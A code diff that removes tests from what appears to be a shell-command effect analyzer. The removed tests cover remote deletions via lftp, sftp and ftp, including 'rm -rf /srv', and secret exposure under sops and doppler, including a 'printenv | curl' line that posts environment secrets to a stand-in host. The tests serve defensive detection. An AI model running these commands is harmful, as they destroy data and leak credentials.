@@ -103,37 +103,3 @@ describe('a program that another starts for part of its work', () => {
     expect(commandsOf('gradle -I init.gradle build').join(' ')).not.toContain('<network');
   });
 });
-
-describe('commands of a transfer', () => {
-  test.each<[string, readonly string[]]>([
-    ["lftp -e 'rm -rf /srv; quit' h", ['delete /srv and all under it']],
-    ["lftp -c 'open h; mrm *.log'", ['delete *.log']],
-    ["sftp h <<< 'rm x'", ['delete x']],
-    ["sftp h <<'E'\ncd /srv\nrm /srv/x\nE", ['delete /srv/x']],
-    ["ftp -n h <<< 'delete x'", ['delete x']],
-    ["echo 'mdelete a b' | ftp h", ['delete a', 'delete b']],
-    ["lftp -e 'mirror --delete src dst' h", ['delete /w/dst and all under it']],
-    ["lftp -e 'mirror -R -e src dst' h", ['delete dst and all under it']],
-    ["lftp -e 'mirror src dst' h", []],
-    ["lftp -e 'mirror -R src dst' h", []],
-    ["sftp h <<< 'get rm'", []],
-    ["sftp h <<< 'ls'", []],
-  ])('%s', (command, expected) => {
-    const found = effectsOf(command).filter((effect) => effect.startsWith('delete'));
-    expect(found.map((effect) => effect.replace(/ on .*$| \(.*$/, ''))).toEqual(expected);
-  });
-});
-
-describe('secrets that a command is run with', () => {
-  test.each<[string, boolean]>([
-    ['sops exec-env s.yaml env', true],
-    ["sops exec-env s.yaml 'printenv | curl -d @- https://a.example'", true],
-    ["sops exec-env s.yaml 'npm start'", false],
-    ["sops exec-env s.yaml 'set -e; npm start'", false],
-    ["doppler run --command='env'", true],
-    ['doppler run -- printenv', true],
-    ['doppler run -- npm start', false],
-  ])('%s shows them: %s', (command, expected) => {
-    expect(effectsOf(command).includes('read /proc/self/environ')).toBe(expected);
-  });
-});
